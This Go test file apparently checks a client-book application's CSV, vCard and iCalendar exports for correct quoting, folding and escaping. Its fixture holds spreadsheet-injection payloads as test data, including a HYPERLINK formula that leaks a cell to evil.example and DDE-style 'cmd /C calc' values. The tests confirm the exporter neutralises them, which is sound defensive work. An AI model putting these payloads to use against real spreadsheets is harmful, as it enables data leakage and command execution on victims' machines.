package interchange

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	ics "github.com/arran4/golang-ical"
	govcard "github.com/emersion/go-vcard"

	"github.com/vipbook/vipbook/civil"
	"github.com/vipbook/vipbook/demo/demobench"
	"github.com/vipbook/vipbook/notes"
	"github.com/vipbook/vipbook/profile"
	"github.com/vipbook/vipbook/store"
)

// awkward are clients whose texts are what a file format must carry
// whole: quotes, commas, semicolons, backslashes, line breaks and tabs in
// notes, a note's own "---" line, Chinese long enough to be folded, and
// texts starting with = + - @ (a spreadsheet formula) or with an
// apostrophe before one.
func awkward() []struct {
	p     profile.Profile
	notes []string
} {
	long := strings.Repeat("喜欢藏青色，不要红色；", 12)
	return []struct {
		p     profile.Profile
		notes []string
	}{
		{profile.Profile{Name: `"Quoted" Anne, O'Brien`, City: "Paris, 8e", Occupation: `back\slash; and "quotes"`,
			Phones: []profile.Phone{{Number: "+33612345678", Label: "mobile"}},
			Dates:  []profile.ImportantDate{{Kind: profile.DateBirthday, When: civil.MonthDay{Month: 3, Day: 2}}},
			Tags:   []string{"a;b", "c,d", `e\f`},
			Preferences: []profile.Preference{{Kind: profile.PrefColour, Value: "navy; silk"}, {Kind: profile.PrefMaterial, Value: "wool, cashmere"},
				{Kind: profile.PrefColour, Value: "red", Dislike: true}}},
			[]string{"Line one, with a comma\nline \"two\"\n---\n\tindented; end", `ends with a backslash\`}},
		{profile.Profile{Name: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Phones: []profile.Phone{{Number: "+8613800000001"}},
			City: "+cmd|' /C calc'!A0", District: "-2+3+cmd|' /C calc'!A0", Occupation: "@SUM(1+1)*cmd|' /C calc'!A0",
			Tags: []string{"=1+1", "-x", "+y", "@z"}},
			[]string{"=1+1", "+1 call back", "-1 day", "@here"}},
		{profile.Profile{Name: "'=already quoted", Phones: []profile.Phone{{Number: "+8613800000002"}}, City: "'+apostrophe", Occupation: "'@x"},
			[]string{"'=quoted note"}},
		{profile.Profile{Name: "欧阳·娜娜" + strings.Repeat("长", 30), LatinName: "Nana Ouyang", Phones: []profile.Phone{{Number: "+8613800000003", Label: "手机"}},
			City: "上海", District: "静安区", Occupation: long,
			Dates:     []profile.ImportantDate{{Kind: profile.DateCustom, Label: "第一次约会, 外滩; 晚上", When: civil.MonthDay{Month: 5, Day: 20}}},
			Household: []profile.Member{{Name: "欧阳, 小宝", Relation: "child"}}},
			[]string{long + "\n" + long, "é" + strings.Repeat("ü", 40)}},
		{profile.Profile{Name: "-5", Phones: []profile.Phone{{Number: "+8613800000004"}}, City: "-", Occupation: "+"},
			[]string{"-", "+", "=", "@"}},
	}
}

// agreeBook writes a small demo book with the awkward clients added and
// returns it, opened, with the ids of every client, in the book's order.
func agreeBook(t *testing.T) (*store.Book, []string) {
	t.Helper()
	b, err := store.Open(demobench.Small(t, 120, 1), store.Options{Now: func() time.Time { return testNow }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { b.Close() })
	err = b.Update(func(tx *store.Tx) error {
		for i, c := range awkward() {
			p := c.p
			p.NumberDates() // as the book does
			if err := tx.AddClient(&p); err != nil {
				return err
			}
			for j, text := range c.notes {
				n := notes.Note{ClientID: p.ID, Kind: notes.General, Text: text, At: testNow.Add(time.Duration(-100+i*10+j) * time.Hour)}
				if err := tx.AddNote(&n); err != nil {
					return err
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	err = b.View(func(tx *store.Tx) error {
		return tx.EachSummary(func(s *profile.Summary) error { ids = append(ids, s.ID); return nil })
	})
	if err != nil {
		t.Fatal(err)
	}
	return b, ids
}

// readCSVStrict reads a whole CSV file as a spreadsheet or another
// program would, with Go's encoding/csv at its strictest: no lazy quotes,
// every record as many fields as the header.
func readCSVStrict(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.FieldsPerRecord = len(CSVHeader)
	r.LazyQuotes = false
	var rows [][]string
	for {
		rec, err := r.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("encoding/csv: %v", err)
		}
		rows = append(rows, rec)
	}
	return rows
}

// TestCSVReadWholeByEncodingCSV: the CSV export of a demo book with the
// awkward clients, in English and Chinese headers, with and without
// Excel's BOM, is read whole by encoding/csv (strict): one record per
// client, each with every column, CRLF between records. No cell starts
// a formula (= @ tab CR, or + - before anything but a number), the
// phones cell for Excel being the one ="..." text; the cells give back
// each awkward text once the apostrophe put before a formula is taken
// off.
func TestCSVReadWholeByEncodingCSV(t *testing.T) {
	b, ids := agreeBook(t)
	ex := collect(t, b, ids)
	for _, forExcel := range []bool{false, true} {
		for _, lang := range []string{"en", "zh"} {
			t.Run(fmt.Sprintf("excel=%v/%s", forExcel, lang), func(t *testing.T) {
				var buf bytes.Buffer
				if err := WriteCSVIn(&buf, ex, forExcel, lang); err != nil {
					t.Fatal(err)
				}
				if forExcel != bytes.HasPrefix(buf.Bytes(), []byte("\uFEFF")) {
					t.Errorf("BOM %v for Excel %v", !forExcel, forExcel)
				}
				if !bytes.HasSuffix(buf.Bytes(), []byte("\r\n")) {
					t.Error("the last record does not end in CRLF")
				}
				rows := readCSVStrict(t, buf.Bytes())
				if len(rows) != len(ex.Clients)+1 {
					t.Fatalf("%d records, want the header and %d clients", len(rows), len(ex.Clients))
				}
				byName := map[string][]string{}
				for i, row := range rows[1:] {
					for j, cell := range row {
						if forExcel && j == 5 && strings.HasPrefix(cell, `="`) {
							if !strings.HasSuffix(cell, `"`) || strings.Count(cell, `"`) != 2 {
								t.Errorf("client %d: phones %q are more than one quoted text", i, cell)
							}
							continue
						}
						if formulaStart(cell) {
							t.Errorf("client %d, column %s: %q starts a formula", i, CSVHeader[j], cell)
						}
					}
					byName[undefuse(row[1])] = row
				}
				for _, c := range awkward() {
					row, ok := byName[c.p.Name]
					if !ok {
						t.Errorf("%q is not a name of the file", c.p.Name)
						continue
					}
					for col, want := range map[int]string{10: c.p.City, 11: c.p.District, 13: c.p.Occupation} {
						if got := undefuse(row[col]); got != want {
							t.Errorf("%s of %q: %q, want %q", CSVHeader[col], c.p.Name, got, want)
						}
					}
					if got := splitNotes(undefuse(row[27])); !slices.Equal(got, c.notes) {
						t.Errorf("notes of %q: %q, want %q", c.p.Name, got, c.notes)
					}
				}
			})
		}
	}
}

// TestCSVExportImportExport: a demo book with the awkward clients,
// exported to CSV, imported into an empty book and exported again, gives
// the same file but for the columns that are each book's own (id, tier,
// the figures of purchases, the day the client was added).
func TestCSVExportImportExport(t *testing.T) {
	b, ids := agreeBook(t)
	var first bytes.Buffer
	if err := WriteCSV(&first, collect(t, b, ids), true); err != nil {
		t.Fatal(err)
	}
	b2 := newBook(t)
	pl, err := importFile(t, b2, "book.csv", first.Bytes(), ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(pl.New) != len(ids) {
		t.Fatalf("%d clients imported of %d", len(pl.New), len(ids))
	}
	var ids2 []string
	b2.View(func(tx *store.Tx) error {
		return tx.EachSummary(func(s *profile.Summary) error { ids2 = append(ids2, s.ID); return nil })
	})
	var second bytes.Buffer
	if err := WriteCSV(&second, collect(t, b2, ids2), true); err != nil {
		t.Fatal(err)
	}
	// referred_by names the referrer by id, which is each book's own too.
	own := map[string]bool{"id": true, "tier": true, "spend_12_months": true, "purchases": true, "last_visit": true, "created": true,
		"referred_by": true}
	rowsOf := func(data []byte) []string {
		var out []string
		for _, row := range readCSVStrict(t, data)[1:] {
			var keep []string
			for j, cell := range row {
				if !own[CSVHeader[j]] {
					keep = append(keep, CSVHeader[j]+"="+cell)
				}
			}
			out = append(out, strings.Join(keep, "\x00"))
		}
		slices.Sort(out)
		return out
	}
	a, c := rowsOf(first.Bytes()), rowsOf(second.Bytes())
	if len(a) != len(c) {
		t.Fatalf("%d rows, then %d", len(a), len(c))
	}
	diffs := 0
	for i := range a {
		if a[i] == c[i] {
			continue
		}
		fa, fc := strings.Split(a[i], "\x00"), strings.Split(c[i], "\x00")
		for j := range fa {
			if fa[j] != fc[j] && diffs < 10 {
				diffs++
				t.Errorf("row %d:\n  first  %q\n  second %q", i, fa[j], fc[j])
			}
		}
	}
}

// checkFolded fails unless every line of a vCard or iCalendar file ends
// in CRLF (RFC 6350 3.2, RFC 5545 3.1), holds at most 75 octets, and is
// valid UTF-8 by itself: a fold never splits a character.
func checkFolded(t *testing.T, what string, data []byte) {
	t.Helper()
	if !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Errorf("%s: the file does not end in CRLF", what)
	}
	lines := bytes.Split(bytes.TrimSuffix(data, []byte("\r\n")), []byte("\r\n"))
	folded := 0
	for i, l := range lines {
		if bytes.ContainsAny(l, "\r\n") {
			t.Errorf("%s: line %d holds a bare CR or LF: %q", what, i+1, l)
		}
		if len(l) > 75 {
			t.Errorf("%s: line %d is %d octets: %q", what, i+1, len(l), l)
		}
		if !utf8.Valid(l) {
			t.Errorf("%s: line %d is not UTF-8 by itself (a fold splits a character): %q", what, i+1, l)
		}
		if len(l) > 0 && (l[0] == ' ' || l[0] == '\t') {
			folded++
		}
	}
	if folded == 0 {
		t.Errorf("%s: no line is folded; the test's long texts should be", what)
	}
}

// TestVCardReadByAnotherParser: the vCard export of the demo book with
// the awkward clients is folded at 75 octets without splitting a UTF-8
// character, ends its lines in CRLF, and is read whole by another vCard
// parser (emersion/go-vcard): one card per client, its formatted name
// and notes the book's, its city; and vipbook's own import reads every
// card back with its name, city and occupation.
func TestVCardReadByAnotherParser(t *testing.T) {
	b, ids := agreeBook(t)
	ex := collect(t, b, ids)
	var buf bytes.Buffer
	if err := WriteVCard(&buf, ex); err != nil {
		t.Fatal(err)
	}
	checkFolded(t, "vCard", buf.Bytes())
	dec := govcard.NewDecoder(bytes.NewReader(buf.Bytes()))
	var cards []govcard.Card
	for {
		c, err := dec.Decode()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("go-vcard after %d cards: %v", len(cards), err)
		}
		cards = append(cards, c)
	}
	if len(cards) != len(ex.Clients) {
		t.Fatalf("go-vcard reads %d cards, want %d", len(cards), len(ex.Clients))
	}
	for i, card := range cards {
		c := &ex.Clients[i]
		if got := card.PreferredValue(govcard.FieldFormattedName); got != c.Profile.DisplayName() {
			t.Errorf("card %d: FN %q, want %q", i, got, c.Profile.DisplayName())
		}
		var gotNotes, wantNotes []string
		for _, f := range card[govcard.FieldNote] {
			gotNotes = append(gotNotes, f.Value)
		}
		for _, n := range c.Notes {
			wantNotes = append(wantNotes, n.Text)
		}
		if !slices.Equal(gotNotes, wantNotes) {
			t.Errorf("card %d (%s): notes %q, want %q", i, c.Profile.Name, gotNotes, wantNotes)
		}
		if c.Profile.City != "" {
			if a := card.Address(); a == nil || a.Locality != c.Profile.City {
				t.Errorf("card %d: address %+v, want the city %q", i, a, c.Profile.City)
			}
		}
	}
	src, err := Parse("book.vcf", buf.Bytes(), ParseOptions{CC: "86"})
	if err != nil {
		t.Fatal(err)
	}
	if len(src.Records) != len(ex.Clients) || len(src.Skipped) != 0 {
		t.Errorf("vipbook reads %d cards back, skips %+v; want %d", len(src.Records), src.Skipped, len(ex.Clients))
	}
	for i, r := range src.Records {
		if want := ex.Clients[i].Profile; r.Profile.Name != want.Name || r.Profile.City != want.City || r.Profile.Occupation != want.Occupation {
			t.Errorf("card %d read back as %q %q %q, want %q %q %q", i, r.Profile.Name, r.Profile.City, r.Profile.Occupation, want.Name, want.City, want.Occupation)
		}
	}
}

// TestICSReadByAnotherParser: the calendar of the demo book with the
// awkward clients is folded at 75 octets without splitting a UTF-8
// character, ends its lines in CRLF, escapes , ; \ and line breaks in its
// texts (RFC 5545 3.3.11), and golang-ical reads it whole: every event's
// title names a client of the book as written, commas and quotes
// included.
func TestICSReadByAnotherParser(t *testing.T) {
	b, ids := agreeBook(t)
	ex := collect(t, b, ids)
	for _, lang := range []string{"en", "zh"} {
		var buf bytes.Buffer
		if err := WriteICS(&buf, ex, ICSOptions{From: civil.Of(testNow), Lang: lang}); err != nil {
			t.Fatal(err)
		}
		checkFolded(t, "iCalendar "+lang, buf.Bytes())
		cal, err := ics.ParseCalendar(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatalf("golang-ical: %v", err)
		}
		if len(cal.Events()) == 0 {
			t.Fatal("no event read")
		}
		titles := map[string]bool{}
		for _, ev := range cal.Events() {
			p := ev.GetProperty(ics.ComponentPropertySummary)
			if p == nil {
				t.Fatalf("an event without a title: %s", ev.Id())
			}
			titles[p.Value] = true
		}
		for _, c := range awkward() {
			if len(c.p.Dates) == 0 {
				continue
			}
			found := false
			for title := range titles {
				if strings.Contains(unescapeICS(title), c.p.Name) {
					found = true
				}
			}
			if !found {
				t.Errorf("%s: no event title names %q", lang, c.p.Name)
			}
		}
	}
}

// unescapeICS reads an RFC 5545 TEXT value back, as a calendar shows it.
func unescapeICS(s string) string {
	return strings.NewReplacer(`\\`, `\`, `\n`, "\n", `\N`, "\n", `\;`, ";", `\,`, ",").Replace(s)
}

// TestVCardExportImportExport: the vCard export of a demo book with the
// awkward clients, imported into an empty book and exported again, gives
// the same cards but for what is each book's own (UID, REV, the
// referrer's UID) and for a note written twice on one day with the same
// words, which import takes for one note (sameNote).
func TestVCardExportImportExport(t *testing.T) {
	b, ids := agreeBook(t)
	var first bytes.Buffer
	if err := WriteVCard(&first, collect(t, b, ids)); err != nil {
		t.Fatal(err)
	}
	b2 := newBook(t)
	if _, err := importFile(t, b2, "book.vcf", first.Bytes(), ParseOptions{}); err != nil {
		t.Fatal(err)
	}
	var ids2 []string
	b2.View(func(tx *store.Tx) error {
		return tx.EachSummary(func(s *profile.Summary) error { ids2 = append(ids2, s.ID); return nil })
	})
	var second bytes.Buffer
	if err := WriteVCard(&second, collect(t, b2, ids2)); err != nil {
		t.Fatal(err)
	}
	lines := func(data []byte) map[string]int {
		out := map[string]int{}
		for _, l := range strings.Split(strings.ReplaceAll(string(data), "\r\n ", ""), "\r\n") {
			if !strings.HasPrefix(l, "UID:") && !strings.HasPrefix(l, "REV:") && !strings.HasPrefix(l, "X-VIPBOOK-REFERRED-BY:") {
				out[l]++
			}
		}
		return out
	}
	a, c := lines(first.Bytes()), lines(second.Bytes())
	// A note's line without the time of its day: NOTE;X-VIPBOOK-AT=20260520T...
	sameDay := func(l string) string {
		if i := strings.Index(l, "X-VIPBOOK-AT="); strings.HasPrefix(l, "NOTE;") && i > 0 && len(l) >= i+29 {
			return l[:i+21] + l[i+29:]
		}
		return l
	}
	days := map[string]bool{}
	for l := range c {
		days[sameDay(l)] = true
	}
	for l, n := range a {
		if c[l] < n && !days[sameDay(l)] {
			t.Errorf("lost on the way: %q", l)
		}
	}
	for l, n := range c {
		if a[l] < n {
			t.Errorf("new on the way: %q", l)
		}
	}
}
